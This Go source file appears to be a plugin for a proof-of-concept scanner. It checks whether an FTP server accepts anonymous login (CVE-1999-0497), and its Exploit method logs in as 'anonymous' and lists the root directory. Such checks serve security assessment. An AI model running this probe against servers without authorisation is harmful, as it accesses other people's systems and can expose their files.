package plugins

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"

	"github.com/jlaffaye/ftp"

	"pocsuite/internal/model"
	"pocsuite/internal/poc"
)

// ftpMaxEntries exploit 结果中最多列出的目录项
const ftpMaxEntries = 20

// FTPAnonymous FTP 匿名登录检测
type FTPAnonymous struct {
	info model.VulnInfo
}

func NewFTPAnonymous() *FTPAnonymous {
	return &FTPAnonymous{
		info: model.VulnInfo{
			CVEID:            "CVE-1999-0497",
			CWEID:            "CWE-287",
			Name:             "FTP Anonymous Login",
			Description:      "FTP服务允许匿名用户登录，可能导致敏感文件泄露或被上传恶意文件。",
			Severity:         model.SeverityMedium,
			AffectedVersions: []string{"All"},
			References:       []string{"https://nvd.nist.gov/vuln/detail/CVE-1999-0497"},
			Product:          "ftp",
		},
	}
}

func (p *FTPAnonymous) Name() string         { return "ftp-anonymous" }
func (p *FTPAnonymous) Description() string  { return p.info.Description }
func (p *FTPAnonymous) Info() model.VulnInfo { return p.info }

// login 以匿名用户登录，登录被拒绝时返回 (nil, nil)
func (p *FTPAnonymous) login(ctx context.Context, cfg model.PocConfig) (*ftp.ServerConn, error) {
	addr, err := hostPort(cfg.Target, 21)
	if err != nil {
		return nil, err
	}

	conn, err := ftp.Dial(addr, ftp.DialWithTimeout(timeoutOf(cfg)), ftp.DialWithContext(ctx))
	if err != nil {
		return nil, poc.RequestError("连接FTP服务失败", err)
	}

	if err := conn.Login("anonymous", "anonymous@example.com"); err != nil {
		conn.Quit()
		var netErr net.Error
		if errors.As(err, &netErr) || errors.Is(err, io.EOF) {
			return nil, poc.RequestError("匿名登录失败", err)
		}
		// 530 或其他协议层拒绝
		return nil, nil
	}
	return conn, nil
}

func (p *FTPAnonymous) Verify(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	conn, err := p.login(ctx, cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	if conn == nil {
		return poc.NewResult(p, cfg, false, "目标FTP服务拒绝匿名登录"), nil
	}
	conn.Quit()
	return poc.NewResult(p, cfg, true, "目标FTP服务允许匿名登录"), nil
}

// Exploit 匿名登录后列出根目录
func (p *FTPAnonymous) Exploit(ctx context.Context, cfg model.PocConfig) (model.PocResult, error) {
	if err := poc.RequireVerified(ctx, p, cfg); err != nil {
		return model.PocResult{}, err
	}

	conn, err := p.login(ctx, cfg)
	if err != nil {
		return model.PocResult{}, err
	}
	if conn == nil {
		return model.PocResult{}, poc.ExecutionError("匿名登录被拒绝")
	}
	defer conn.Quit()

	entries, err := conn.List("/")
	if err != nil {
		return model.PocResult{}, poc.ExecutionError("列出根目录失败: %v", err)
	}

	names := make([]string, 0, len(entries))
	for i, e := range entries {
		if i == ftpMaxEntries {
			names = append(names, "...")
			break
		}
		names = append(names, e.Name)
	}
	return poc.NewResult(p, cfg, true, fmt.Sprintf("根目录共 %d 项: %s", len(entries), strings.Join(names, ", "))), nil
}
